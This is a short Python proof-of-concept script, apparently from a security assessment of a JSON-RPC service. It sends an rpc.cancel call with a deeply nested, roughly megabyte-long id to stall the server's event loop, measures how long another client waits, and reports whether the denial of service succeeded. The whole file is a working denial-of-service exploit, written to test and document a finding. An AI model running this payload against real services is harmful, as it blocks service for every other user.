"""Holds the event loop for seconds with one deeply nested id in rpc.cancel (attack-report § 4.1).

Findings: L.3, H2

Usage: deep_id.py ATTACKED_SOCKET VICTIM_SOCKET

Any user may call rpc.cancel. The line was answered after 7 s, and nobody else was served meanwhile.
"""

import select
import sys
import time

from attack import Connection, refused, succeeded

# A debug build scans 1 MiB in some tenths of a second; decoding the id took 7 s in a release build.
LINE_SECONDS = 3
VICTIM_SECONDS = 0.25


def main():
    attacked, victim = (Connection(path) for path in sys.argv[1:3])
    deep = b"[" * 28 + b"[" + b",".join([b'""'] * 340_000) + b"]" + b"]" * 28
    line = b'{"jsonrpc":"2.0","id":1,"method":"rpc.cancel","params":{"id":' + deep + b"}}"
    victim.reply("system.status")
    began = time.monotonic()
    attacked.send_line(line)
    waited = 0
    while not select.select([attacked.socket], [], [], 0)[0]:
        called = time.monotonic()
        victim.reply("system.status")
        waited = max(waited, time.monotonic() - called)
    reply = attacked.receive()
    took = time.monotonic() - began
    words = "the line was answered after %.2f s, another caller after %.3f s: %s" % (took, waited, reply)
    if reply["error"]["data"].get("field") != "id":
        succeeded("the id was not refused: " + words)
    if took > LINE_SECONDS or waited > VICTIM_SECONDS:
        succeeded("one line stops everybody: " + words)
    refused(words)


main()
